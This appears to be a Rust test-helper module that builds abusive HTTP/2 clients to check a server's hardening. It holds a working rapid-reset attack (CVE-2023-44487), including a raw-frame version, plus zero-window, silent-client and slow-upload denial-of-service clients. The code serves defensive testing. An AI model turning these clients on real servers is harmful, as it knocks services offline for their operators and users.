//! Abusive HTTP/2 clients for the hardening tests (issue #11): rapid reset (CVE-2023-44487)
//! and a client that opens a connection and then never answers (no PING ack, no reads).

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// What a rapid-reset run did.
#[derive(Debug, Default, Clone, Copy)]
pub struct RapidReset {
    /// Streams opened (HEADERS sent) and reset at once (RST_STREAM CANCEL).
    pub streams: usize,
    /// Whether the server closed the connection before the client was done.
    pub closed_by_server: bool,
}

/// Opens up to `streams` streams on one h2c (prior knowledge) connection to `addr`, resetting
/// each right after its HEADERS (after `pause`, when given, so that the server has taken the
/// stream and started on it first); stops early when the server closes the connection.
/// Bounded by `streams` and by 20 seconds.
pub async fn rapid_reset(
    addr: SocketAddr,
    streams: usize,
    pause: Option<Duration>,
) -> Result<RapidReset, String> {
    let tcp = TcpStream::connect(addr)
        .await
        .map_err(|e| format!("connect {addr}: {e}"))?;
    let (client, conn) = h2::client::handshake(tcp)
        .await
        .map_err(|e| format!("h2 handshake: {e}"))?;
    let mut conn = tokio::spawn(conn);
    let mut out = RapidReset::default();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    let mut client = client;
    for i in 0..streams {
        if tokio::time::Instant::now() > deadline {
            break;
        }
        client = match client.ready().await {
            Ok(c) => c,
            Err(_) => {
                out.closed_by_server = true;
                return Ok(out);
            }
        };
        let req = http::Request::builder()
            .method("GET")
            .uri(format!("http://{addr}/rapid/{i}"))
            .body(())
            .expect("a valid request");
        match client.send_request(req, true) {
            Ok((_resp, mut stream)) => {
                if let Some(p) = pause {
                    tokio::time::sleep(p).await;
                }
                stream.send_reset(h2::Reason::CANCEL);
                out.streams += 1;
            }
            Err(_) => {
                out.closed_by_server = true;
                return Ok(out);
            }
        }
        if conn.is_finished() {
            out.closed_by_server = true;
            return Ok(out);
        }
    }
    // Whether the server ends the connection shortly after the last stream (the client, still
    // held here, would keep it open).
    out.closed_by_server = tokio::time::timeout(Duration::from_secs(2), &mut conn)
        .await
        .is_ok();
    drop(client);
    Ok(out)
}

/// Rapid reset as the CVE-2023-44487 tools send it: raw frames on one h2c connection, each
/// stream's HEADERS (END_STREAM) and RST_STREAM (CANCEL) written back to back, in batches of 64
/// streams, up to `streams`, while what the server sends is read and discarded. (`rapid_reset`
/// without a pause goes through the h2 crate, which drops a reset of a stream whose HEADERS it
/// has not flushed yet: the server then sees only HEADERS.) Stops when the server closes the
/// connection; bounded by `streams` and by 20 seconds.
pub async fn rapid_reset_raw(addr: SocketAddr, streams: usize) -> Result<RapidReset, String> {
    let tcp = TcpStream::connect(addr)
        .await
        .map_err(|e| format!("connect {addr}: {e}"))?;
    let (mut rd, mut wr) = tcp.into_split();
    // The reader sees the close; the server's frames are not looked at.
    let mut reader = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        while matches!(rd.read(&mut buf).await, Ok(n) if n > 0) {}
    });
    let mut out = RapidReset::default();
    let mut batch = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    batch.extend_from_slice(&[0, 0, 0, 4, 0, 0, 0, 0, 0]);
    let authority = addr.to_string();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    let mut id: u32 = 1;
    while out.streams < streams && tokio::time::Instant::now() < deadline {
        for _ in 0..64.min(streams - out.streams) {
            // HPACK literals without indexing, new names.
            let mut block = Vec::new();
            for (n, v) in [
                (&b":method"[..], &b"GET"[..]),
                (b":scheme", b"http"),
                (b":path", b"/rapid"),
                (b":authority", authority.as_bytes()),
            ] {
                block.extend_from_slice(&[0, n.len() as u8]);
                block.extend_from_slice(n);
                block.push(v.len() as u8);
                block.extend_from_slice(v);
            }
            let len = block.len() as u32;
            batch.extend_from_slice(&len.to_be_bytes()[1..]);
            batch.extend_from_slice(&[1, 0x5]);
            batch.extend_from_slice(&id.to_be_bytes());
            batch.extend_from_slice(&block);
            batch.extend_from_slice(&[0, 0, 4, 3, 0]);
            batch.extend_from_slice(&id.to_be_bytes());
            batch.extend_from_slice(&8u32.to_be_bytes());
            id += 2;
            out.streams += 1;
        }
        if wr.write_all(&batch).await.is_err() || reader.is_finished() {
            out.closed_by_server = true;
            return Ok(out);
        }
        batch.clear();
        tokio::task::yield_now().await;
    }
    out.closed_by_server = tokio::time::timeout(Duration::from_secs(2), &mut reader)
        .await
        .is_ok();
    reader.abort();
    Ok(out)
}

/// An HTTP/2 (h2c) client that sends the preface and an empty SETTINGS frame, then never
/// writes again (no SETTINGS ack, no PING ack). Returns how long until the server closed the
/// connection, or `None` if it was still open after `wait`. It reads (and discards) what the
/// server sends, so only a close ends it.
pub async fn silent_after_preface(addr: SocketAddr, wait: Duration) -> Option<Duration> {
    let mut s = TcpStream::connect(addr).await.ok()?;
    s.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await
        .ok()?;
    // SETTINGS: length 0, type 4, flags 0, stream 0.
    s.write_all(&[0, 0, 0, 4, 0, 0, 0, 0, 0]).await.ok()?;
    let started = tokio::time::Instant::now();
    let mut buf = vec![0u8; 4096];
    let read_all = async {
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    };
    tokio::time::timeout(wait, read_all).await.ok()?;
    Some(started.elapsed())
}

/// One request over a fresh h2c (prior knowledge) connection; returns the response status.
/// `headers` are sent as given (a `content-length` that does not match `body` included: the
/// server may answer before the body is complete).
pub async fn h2c_status(
    addr: SocketAddr,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> Result<u16, String> {
    let work = async {
        let tcp = TcpStream::connect(addr)
            .await
            .map_err(|e| format!("connect {addr}: {e}"))?;
        let (client, conn) = h2::client::handshake(tcp)
            .await
            .map_err(|e| format!("h2 handshake: {e}"))?;
        tokio::spawn(conn);
        let mut client = client.ready().await.map_err(|e| e.to_string())?;
        let mut req = http::Request::builder()
            .method(method)
            .uri(format!("http://{addr}{path}"));
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        let req = req.body(()).map_err(|e| e.to_string())?;
        let (resp, mut stream) = client
            .send_request(req, body.is_empty())
            .map_err(|e| e.to_string())?;
        if !body.is_empty() {
            let _ = stream.send_data(bytes::Bytes::copy_from_slice(body), true);
        }
        let resp = resp.await.map_err(|e| e.to_string())?;
        Ok(resp.status().as_u16())
    };
    tokio::time::timeout(Duration::from_secs(10), work)
        .await
        .map_err(|_| "no answer within 10 s".to_string())?
}

/// What a zero-window holder saw.
#[derive(Debug, Default, Clone, Copy)]
pub struct Holder {
    /// Status of the held response (its head arrives; its body never can).
    pub status: u16,
    /// Keep-alive requests answered while holding.
    pub keepalives: usize,
    /// When the server reset the held stream or closed the connection, if it did.
    pub released_after: Option<Duration>,
}

/// A client that holds its HTTP/2 flow-control window at zero: SETTINGS_INITIAL_WINDOW_SIZE 0
/// and never a WINDOW_UPDATE, so no DATA of `path`'s response can be sent to it. While it holds
/// (at most `hold`), it sends a bodiless `HEAD /` every `keepalive` on the same connection, so a
/// server's idle timer on the connection alone never fires. Returns when the server resets the
/// held stream or closes the connection, or after `hold`.
pub async fn zero_window_holder(
    addr: SocketAddr,
    path: &str,
    hold: Duration,
    keepalive: Option<Duration>,
) -> Result<Holder, String> {
    let tcp = TcpStream::connect(addr)
        .await
        .map_err(|e| format!("connect {addr}: {e}"))?;
    let (client, conn) = h2::client::Builder::new()
        .initial_window_size(0)
        .handshake::<_, bytes::Bytes>(tcp)
        .await
        .map_err(|e| format!("h2 handshake: {e}"))?;
    let mut conn = tokio::spawn(conn);
    let started = tokio::time::Instant::now();
    let mut client = client.ready().await.map_err(|e| e.to_string())?;
    let req = http::Request::builder()
        .method("GET")
        .uri(format!("http://{addr}{path}"))
        .body(())
        .map_err(|e| e.to_string())?;
    let (resp, _stream) = client.send_request(req, true).map_err(|e| e.to_string())?;
    let resp = tokio::time::timeout(Duration::from_secs(10), resp)
        .await
        .map_err(|_| "no response head within 10 s".to_string())?
        .map_err(|e| e.to_string())?;
    let mut out = Holder {
        status: resp.status().as_u16(),
        ..Holder::default()
    };
    // Never read: the body's data would be released and the window reopened.
    let mut body = resp.into_body();
    let deadline = started + hold;
    let tick = keepalive.unwrap_or(hold);
    loop {
        let now = tokio::time::Instant::now();
        if now >= deadline {
            return Ok(out);
        }
        let wait = tick.min(deadline - now);
        tokio::select! {
            // The held stream ends (reset) or the connection goes away.
            r = body.data() => {
                match r {
                    // Data can only arrive if the server ignores the window.
                    Some(Ok(_)) => return Err("DATA past a zero window".into()),
                    _ => {
                        out.released_after = Some(started.elapsed());
                        return Ok(out);
                    }
                }
            }
            _ = &mut conn => {
                out.released_after = Some(started.elapsed());
                return Ok(out);
            }
            _ = tokio::time::sleep(wait) => {
                if keepalive.is_none() {
                    continue;
                }
                let Ok(c) = client.clone().ready().await else {
                    continue;
                };
                client = c;
                let req = http::Request::builder()
                    .method("HEAD")
                    .uri(format!("http://{addr}/"))
                    .body(())
                    .map_err(|e| e.to_string())?;
                if let Ok((r, _)) = client.send_request(req, true) {
                    if let Ok(Ok(_)) = tokio::time::timeout(Duration::from_secs(2), r).await {
                        out.keepalives += 1;
                    }
                }
            }
        }
    }
}

/// Uploads `chunks` pieces of `chunk` bytes as an HTTP/2 request body WITHOUT content-length
/// (h2c), one piece every `every`; returns the status of the response (which may come before
/// the upload is over). Bounded by `chunks` and by 30 seconds.
pub async fn h2c_upload(
    addr: SocketAddr,
    path: &str,
    chunk: usize,
    chunks: usize,
    every: Duration,
) -> Result<u16, String> {
    let work = async {
        let tcp = TcpStream::connect(addr)
            .await
            .map_err(|e| format!("connect {addr}: {e}"))?;
        let (client, conn) = h2::client::handshake(tcp)
            .await
            .map_err(|e| format!("h2 handshake: {e}"))?;
        tokio::spawn(conn);
        let mut client = client.ready().await.map_err(|e| e.to_string())?;
        let req = http::Request::builder()
            .method("POST")
            .uri(format!("http://{addr}{path}"))
            .body(())
            .map_err(|e| e.to_string())?;
        let (resp, mut stream) = client.send_request(req, false).map_err(|e| e.to_string())?;
        tokio::pin!(resp);
        let piece = bytes::Bytes::from(vec![b'u'; chunk]);
        for i in 0..chunks {
            let last = i + 1 == chunks;
            if stream.send_data(piece.clone(), last).is_err() {
                break;
            }
            if !last {
                tokio::select! {
                    r = &mut resp => {
                        return r.map(|r| r.status().as_u16()).map_err(|e| e.to_string());
                    }
                    _ = tokio::time::sleep(every) => {}
                }
            }
        }
        let r = resp.await.map_err(|e| e.to_string())?;
        Ok(r.status().as_u16())
    };
    tokio::time::timeout(Duration::from_secs(30), work)
        .await
        .map_err(|_| "no answer within 30 s".to_string())?
}
